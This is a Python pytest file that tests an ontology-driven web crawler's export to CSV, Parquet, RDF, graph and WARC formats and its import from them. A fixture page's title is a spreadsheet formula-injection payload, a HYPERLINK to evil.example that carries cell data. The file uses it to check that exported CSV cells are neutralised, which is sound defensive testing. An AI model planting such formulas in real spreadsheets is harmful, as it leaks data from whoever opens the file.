"""`ontocrawl export`: what it writes opens in the programs that it is for, and says what the store says."""

import asyncio
import contextlib
import csv
import json
import os
import re
import signal
import sys
import xml.etree.ElementTree as ET
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from tea_web import HOST, ONTOLOGY, crawled_tea, start
from test_end_to_end import ontocrawl

from cli.crawl_register import named
from cli.exchange.export import Form, Pages, Text, run
from cli.exchange.importing import Import
from cli.exchange.importing import run as run_import
from cli.exchange.table_files import read_csv, write_csv
from cli.exchange.written_files import written_beside
from crawler.archive.rebuilt_pages import rebuilt_html
from crawler.archive.stored_pages import stored_answers
from crawler.archive.warc_source import ArchiveSource
from crawler.engine.crawl_records import Progress
from crawler.ports import Outcome
from crawler.sandbox.sandboxed_reading import ReadingSource
from graphdb.record.exported_record import SITES
from graphdb.record.sqlite_store import SqliteStore
from graphdb.stores import open_store
from ontology.errors import CrawlBroken, SettingsError, StoreError
from semantic.page import Page
from semantic.parsing.page_reader import read_page
from semantic.urls import is_robots_url

pytestmark = pytest.mark.slow

HTML = {"content-type": "text/html; charset=utf-8"}
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,'x')"
PAGES = {
    "/": start("green", "zh", "evil", "cars"),
    "/green": ("Green tea", "<h1>All of green tea</h1><p>Green <b>tea</b> is <strong>tea</strong>.</p>" * 3),
    "/zh": ("绿茶", "<h2>绿茶</h2><p>绿茶是未发酵的茶。<a href='/more?a=1&amp;b=\"x\"' title='t'>更多绿茶</a></p>" * 3),
    "/evil": (FORMULA, "<p>Green tea &lt;script&gt; & \x0b tea.</p>" * 3),
    "/cars": ("Cars", "<p>Engines and wheels. <a href='/'><img alt='home'></a></p>" * 3),
}


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> str:
    """A small crawl, for all tests of this file."""
    return crawled_tea(tmp_path_factory.mktemp("exchange"), PAGES, threshold=0.2)


def asked(store: str, statement: str) -> list[dict]:
    with contextlib.closing(open_store(store, create=False)) as opened:
        return list(opened.read(statement))


def written(store: str, form: Form, out: Path, pages: Pages = Pages.ALL, *, text: Text | None = None) -> Path:
    assert run(store, form, out, pages, text=text) == 0
    return out


def test_csv_has_every_row_and_excel_s_mark(store, tmp_path):
    out = written(store, Form.CSV, tmp_path / "tables")
    tables = {path.stem: path for path in out.iterdir()}
    assert set(tables) == {"pages", "links", "mentions", "concepts", "sites", "crawl"}
    assert tables["pages"].read_bytes().startswith(b"\xef\xbb\xbf")
    pages = {row["url"]: row for row in read_csv(tables["pages"])}
    assert {url: row["status"] for url, row in pages.items()} == {
        row["url"]: row["status"] for row in asked(store, "SELECT url, status FROM pages")
    }
    assert pages[HOST + "/zh"]["title"] == "绿茶"
    assert pages[HOST + "/zh"]["discovered_from"] == HOST + "/"
    (links,) = asked(store, "SELECT count(*) AS links FROM links")
    assert len(list(read_csv(tables["links"]))) == links["links"]


def test_no_cell_of_csv_is_a_formula(store, tmp_path):
    out = written(store, Form.CSV, tmp_path, text=Text.ALL)
    for path in out.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert cells
        assert [cell for cell in cells if cell[:1] in tuple("=+-@\t\r") and not is_number(cell)] == []
    (evil,) = [row for row in read_csv(out / "pages.csv") if row["url"].endswith("/evil")]
    assert evil["title"] == FORMULA


@pytest.mark.parametrize(("length", "named"), [(32_767, False), (32_768, True)])
def test_a_cell_too_long_for_excel_is_whole_and_counted(tmp_path, length, named):
    rows = [{"host": "a.example", "delay": 1.0, "robots": "茶" * length, "away": None}]
    too_long = write_csv(tmp_path / "sites.csv", SITES, rows)
    assert bool(too_long) is named
    assert [len(row["robots"]) for row in read_csv(tmp_path / "sites.csv")] == [length]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_jsonl_and_parquet_say_the_same(store, tmp_path):
    from pyarrow import parquet

    lines = written(store, Form.JSONL, tmp_path / "jsonl", text=Text.ALL)
    columns = written(store, Form.PARQUET, tmp_path / "parquet", text=Text.ALL)
    for name in ("pages", "links", "mentions", "concepts", "sites", "crawl"):
        rows = [json.loads(line) for line in (lines / f"{name}.jsonl").read_text("utf-8").split("\n") if line]
        assert rows == [told(row) for row in parquet.read_table(columns / f"{name}.parquet").to_pylist()]
    (zh,) = [row for row in map(json.loads, (lines / "pages.jsonl").open(encoding="utf-8")) if row["title"] == "绿茶"]
    assert "绿茶是未发酵的茶。" in zh["text"]


def told(row: dict) -> dict:
    """With moments as the store has them: without the zeros of what is smaller than they are."""
    return {
        name: value.isoformat(timespec="milliseconds" if value.microsecond else "seconds")
        if isinstance(value, datetime)
        else value
        for name, value in row.items()
    }


def test_parquet_has_moments_that_can_be_compared(store, tmp_path):
    from pyarrow import parquet

    out = written(store, Form.PARQUET, tmp_path)
    pages = parquet.read_table(out / "pages.parquet").to_pylist()
    (crawl,) = parquet.read_table(out / "crawl.parquet").to_pylist()
    assert {page["fetched_at"] >= crawl["started_at"] for page in pages if page["status"] == "fetched"} == {True}
    assert crawl["started_at"].utcoffset() == timedelta()


def test_parquet_without_pyarrow_tells_how_to_get_it(store, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(SettingsError) as caught:
        run(store, Form.PARQUET, tmp_path / "x", Pages.ALL, text=None)
    assert "ontocrawl[parquet]" in caught.value.cure
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("form", [Form.GRAPHML, Form.GEXF])
def test_a_graph_has_the_pages_wanted_and_their_links(store, tmp_path, form):
    root = ET.parse(written(store, form, tmp_path / f"crawl.{form}", Pages.FETCHED)).getroot()
    space = root.tag.partition("}")[0] + "}"
    nodes = {node.get("id"): node for node in root.iter(f"{space}node")}
    ends = [(edge.get("source"), edge.get("target")) for edge in root.iter(f"{space}edge")]
    (there,) = asked(
        store,
        "SELECT count(*) AS links FROM links JOIN pages AS sources ON sources.id = source "
        "JOIN pages AS targets ON targets.id = target WHERE sources.status = 'fetched' AND targets.status = 'fetched'",
    )
    assert len(nodes) == len(PAGES)
    assert len(ends) == there["links"] > 0
    assert {end for pair in ends for end in pair} <= nodes.keys()
    told = ET.tostring(root, encoding="unicode")
    assert "绿茶" in told and HOST + "/zh" in told


def test_turtle_types_pages_with_the_ontology_s_classes(store, tmp_path):
    from rdflib import RDF, Graph, Namespace, URIRef

    graph = Graph().parse(written(store, Form.TTL, tmp_path / "crawl.ttl"), format="turtle")
    tea, schema = Namespace("http://onto.example/tea#"), Namespace("https://schema.org/")
    prov, oc = Namespace("http://www.w3.org/ns/prov#"), Namespace("https://w3id.org/ontocrawl#")
    page = URIRef(HOST + "/zh")
    assert {schema.WebPage, tea.Green} <= set(graph.objects(page, RDF.type))
    assert URIRef(HOST + "/cars") not in set(graph.subjects(RDF.type, tea.Green))
    (capture,) = graph.subjects(prov.specializationOf, page)
    (activity,) = graph.objects(capture, prov.wasGeneratedBy)
    assert (activity, RDF.type, prov.Activity) in graph
    assert graph.value(capture, prov.generatedAtTime).toPython().year > 2000
    (links,) = asked(store, "SELECT count(*) AS links FROM links")
    assert len(list(graph.subject_objects(oc.linksTo))) == links["links"]


def test_turtle_declares_its_words_and_types_its_values(store, tmp_path):
    from rdflib import OWL, PROV, RDF, RDFS, XSD, Graph, Literal

    graph = Graph().parse(written(store, Form.TTL, tmp_path / "crawl.ttl"), format="turtle")
    used = set(graph.predicates()) - {RDF.type, RDFS.label}
    kinds = (OWL.ObjectProperty, OWL.DatatypeProperty, OWL.AnnotationProperty)
    assert used <= {word for kind in kinds for word in graph.subjects(RDF.type, kind)}
    words = used | set(graph.objects(predicate=RDF.type))
    assert {word for word in words if word.startswith("http://www.w3.org/ns/prov#") and word not in PROV} == set()
    values = [value for value in graph.objects() if isinstance(value, Literal)]
    assert [value for value in values if value.ill_typed] == []
    times = {
        value.datatype for word in (PROV.startedAtTime, PROV.generatedAtTime) for value in graph.objects(None, word)
    }
    assert times == {XSD.dateTime}


def test_a_warc_has_right_digests_for_others(store, tmp_path):
    from warcio import ArchiveIterator

    with written(store, Form.WARC, tmp_path / "crawl.warc.gz").open("rb") as file:
        kinds = []
        for record in ArchiveIterator(file, check_digests="raise"):
            record.content_stream().read()
            kinds.append(record.rec_type)
    assert kinds.count("response") == len(PAGES)


def test_a_warc_gives_back_what_the_store_kept(store, tmp_path):
    out = written(store, Form.WARC, tmp_path / "crawl.warc.gz")
    archived = {fetched.url: fetched for _, fetched in ArchiveSource(out).answers()}
    with contextlib.closing(open_store(store, create=False)) as opened:
        kept = {held.url: held for held in stored_answers(opened.stored_pages())}
    assert archived.keys() == kept.keys()
    for url, held in kept.items():
        assert archived[url].status == held.status
        if held.page:
            read = read_page(archived[url].body, url, HTML)
            assert (read.text, read.spans, said(read)) == (held.page.text, held.page.spans, said(held.page))


def said(page: Page) -> list[tuple]:
    return [(link.url, link.anchor, link.title, link.start, link.end, link.rel) for link in page.links]


@pytest.mark.parametrize(
    "body",
    [
        "<p>a <b>b</b><strong>c</strong> d</p><h1>x <a href='/y'>y <b>z</b></a></h1><a href='/i'><img alt='i'></a>",
        "plain &amp; &lt;b&gt;<p></p><ul><li><a rel='nofollow me' href='/1'>one</a><li><a href='/2'></a></ul>",
        "<a href='/first'>first</a> <a href='http://a.example/'>here</a> <a href='javascript:x()'>it</a>",
        "",
    ],
)
def test_html_made_of_a_page_reads_as_that_page(body):
    html = f"<html lang=zh><head><title>T &amp; t</title></head><body>{body}</body></html>"
    page = read_page(html.encode(), "http://a.example/", HTML)
    again = read_page(rebuilt_html(page).encode(), "http://a.example/", HTML)
    assert (again.title, again.text, again.spans, said(again)) == (page.title, page.text, page.spans, said(page))


def imported(folder: Path, path: Path, ontology: str) -> dict[str, dict]:
    """What a store has of the pages after an import."""
    (folder / "tea.ttl").write_text(ontology, encoding="utf-8")
    given = ("import", str(path), "--ontology", "tea.ttl", "--store", "imported", "--threshold", "0.2")
    done = ontocrawl(folder, *given)
    assert done.returncode == 0, done.stderr
    assert "requests" not in done.stdout + done.stderr
    rows = asked(
        str(folder / "imported"),
        "SELECT pages.url, pages.title, pages.on_topic, pages.depth, parents.url AS parent, pages.is_seed AS seed "
        "FROM pages LEFT JOIN pages AS parents ON parents.id = pages.parent WHERE pages.status = 'fetched'",
    )
    return {row.pop("url"): row for row in rows}


def test_an_archive_is_imported_and_judged_as_the_crawl_was(store, tmp_path):
    pages = imported(tmp_path, written(store, Form.WARC, tmp_path / "crawl.warc.gz"), ONTOLOGY)
    crawled = asked(store, "SELECT url, title, on_topic FROM pages WHERE status = 'fetched'")
    assert {(url, page["title"], page["on_topic"]) for url, page in pages.items()} == {
        (page["url"], page["title"], page["on_topic"]) for page in crawled
    }
    assert [url for url, page in pages.items() if page["seed"]] == [HOST + "/"]
    assert {page["parent"] for url, page in pages.items() if url != HOST + "/"} == {HOST + "/"}
    assert pages[HOST + "/zh"]["depth"] == 1
    (crawl,) = asked(str(tmp_path / "imported"), "SELECT requests, pages FROM crawl")
    assert crawl == {"requests": 0, "pages": len(pages)}
    known = named(str(tmp_path / "imported"))
    assert (known.pages, known.is_import, known.state) == (len(pages), True, "all imported")
    assert imported(tmp_path, tmp_path / "crawl.warc.gz", ONTOLOGY) == pages  # once more


def test_tables_are_imported_with_their_links(store, tmp_path):
    tables = written(store, Form.CSV, tmp_path / "tables", Pages.FETCHED, text=Text.ALL)
    pages = imported(tmp_path, tables, ONTOLOGY)
    assert len(pages) == len(PAGES)
    assert pages[HOST + "/evil"]["title"] == FORMULA
    assert pages[HOST + "/zh"]["on_topic"] and not pages[HOST + "/cars"]["on_topic"]
    assert pages[HOST + "/zh"]["parent"] == HOST + "/"
    (waiting,) = asked(str(tmp_path / "imported"), "SELECT count(*) AS failed FROM pages WHERE status = 'failed'")
    assert waiting["failed"] == 0


def test_an_import_into_another_crawl_is_refused(store, tmp_path):
    before = asked(store, "SELECT settings, url FROM crawl LEFT JOIN pages ON is_seed")
    (tmp_path / "pages.csv").write_text(f"url,text\n{HOST}/new,tea\n")
    (tmp_path / "tea.ttl").write_text(ONTOLOGY, encoding="utf-8")
    with pytest.raises(SettingsError, match="holds a crawl that is no import"):
        run_import(Import(path=tmp_path / "pages.csv", ontology=tmp_path / "tea.ttl", store=store))
    after = asked(store, "SELECT settings, url FROM crawl LEFT JOIN pages ON is_seed")
    assert after == before


@pytest.fixture
def chain(tmp_path) -> Import:
    """An import of three pages, each of which links to the next."""
    rows = [f"{HOST}/,<a href=/one>tea</a>", f"{HOST}/one,<a href=/two>tea</a>", f"{HOST}/two,tea"]
    (tmp_path / "pages.csv").write_text("\n".join(["url,html", *rows]))
    (tmp_path / "tea.ttl").write_text(ONTOLOGY, encoding="utf-8")
    return Import(path=tmp_path / "pages.csv", ontology=tmp_path / "tea.ttl", store=str(tmp_path / "imported"))


def test_an_import_failing_after_its_crawl_is_no_typing_mistake(chain, monkeypatch):
    def fail(self: object) -> int:
        raise StoreError("the disk is full", "make room")

    monkeypatch.setattr(SqliteStore, "find_ways", fail)
    with pytest.raises(CrawlBroken) as caught:
        run_import(chain)
    assert caught.value.cure.startswith("make room; ")


def test_an_interrupted_import_says_what_is_kept_and_what_next(chain, monkeypatch, capsys):
    sent: list[int] = []

    def interrupt(progress: Progress) -> None:
        if not sent:  # the second would end this process at once
            sent.append(progress.pages)
            os.kill(os.getpid(), signal.SIGINT)

    async def fetch_late(self: ReadingSource, url: str, *given: Any, **named: Any) -> Outcome:
        while url != f"{HOST}/" and not is_robots_url(url) and not sent:
            await asyncio.sleep(0.01)
        return await fetch(self, url, *given, **named)

    fetch = ReadingSource.fetch
    monkeypatch.setattr(ReadingSource, "fetch", fetch_late)
    monkeypatch.setattr("cli.exchange.importing.watching", lambda pages: contextlib.nullcontext(interrupt))
    assert run_import(chain) == 130
    kept = len(asked(chain.store, 'SELECT url FROM pages WHERE "order" IS NOT NULL'))
    assert re.search(rf"\b{kept} pages\b", capsys.readouterr().out)
    assert asked(chain.store, "SELECT requests FROM crawl") == [{"requests": 0}]
    monkeypatch.undo()
    assert run_import(chain) == 0
    assert asked(chain.store, "SELECT requests, pages FROM crawl") == [{"requests": 0, "pages": 3}]


@pytest.mark.parametrize("column", ["title", "text", "html"])
def test_an_import_of_titles_alone_says_so(tmp_path, capsys, column):
    (tmp_path / "pages.csv").write_text(f"url,{column}\n{HOST}/,tea\n")
    (tmp_path / "tea.ttl").write_text(ONTOLOGY, encoding="utf-8")
    wanted = Import(path=tmp_path / "pages.csv", ontology=tmp_path / "tea.ttl", store="memory:")
    with pytest.raises(SettingsError, match="keeps nothing"):  # said before the store is opened
        run_import(wanted)
    assert ("by their titles alone" in capsys.readouterr().err) is (column == "title")


def test_a_table_without_pages_is_refused(tmp_path):
    (tmp_path / "pages.csv").write_text("name,value\n1,2\n")
    (tmp_path / "tea.ttl").write_text(ONTOLOGY, encoding="utf-8")
    wanted = Import(path=tmp_path / "pages.csv", ontology=tmp_path / "tea.ttl", store=str(tmp_path / "s"))
    with pytest.raises(SettingsError, match="no page"):
        run_import(wanted)
    assert not (tmp_path / "s").exists()


def test_a_file_s_folders_are_made_but_not_in_files(store, tmp_path):
    assert written(store, Form.TTL, tmp_path / "a" / "new" / "crawl.ttl").stat().st_size
    (tmp_path / "file").touch()
    with pytest.raises(SettingsError, match="file is a file and no folder"):
        written(store, Form.TTL, tmp_path / "file" / "crawl.ttl")


def test_what_fails_leaves_nothing_and_keeps_what_was(tmp_path):
    (tmp_path / "kept.csv").write_text("before")
    with pytest.raises(RuntimeError), written_beside() as place:
        place(tmp_path / "kept.csv").write_text("half")
        raise RuntimeError
    assert {path.name: path.read_text() for path in tmp_path.iterdir()} == {"kept.csv": "before"}
    with written_beside() as place:
        place(tmp_path / "kept.csv").write_text("whole")
    assert {path.name: path.read_text() for path in tmp_path.iterdir()} == {"kept.csv": "whole"}


@pytest.mark.parametrize(("encoding", "told"), [("utf-8-sig", ""), ("gbk", "GB18030"), ("utf-16", "UTF-16-LE")])
def test_a_table_in_an_encoding_of_windows_is_read(tmp_path, capsys, encoding, told):
    (tmp_path / "t.csv").write_bytes("网址,标题\nhttp://a.example/,绿茶\n".encode(encoding))
    assert list(read_csv(tmp_path / "t.csv")) == [{"网址": "http://a.example/", "标题": "绿茶"}]
    said = capsys.readouterr().err
    assert (told in said) and (said.count("\n") == bool(told))


def test_a_table_of_semicolons_is_read_as_such(tmp_path):
    (tmp_path / "t.csv").write_bytes("\ufeffurl;Title\nhttp://a.example/;'=1+1\n".encode())
    assert list(read_csv(tmp_path / "t.csv")) == [{"url": "http://a.example/", "title": "=1+1"}]


def test_a_name_of_one_table_writes_the_pages_alone(store, tmp_path):
    out = written(store, Form.CSV, tmp_path / "pages.csv")
    whole = written(store, Form.CSV, tmp_path / "tables") / "pages.csv"
    assert out.read_bytes() == whole.read_bytes()
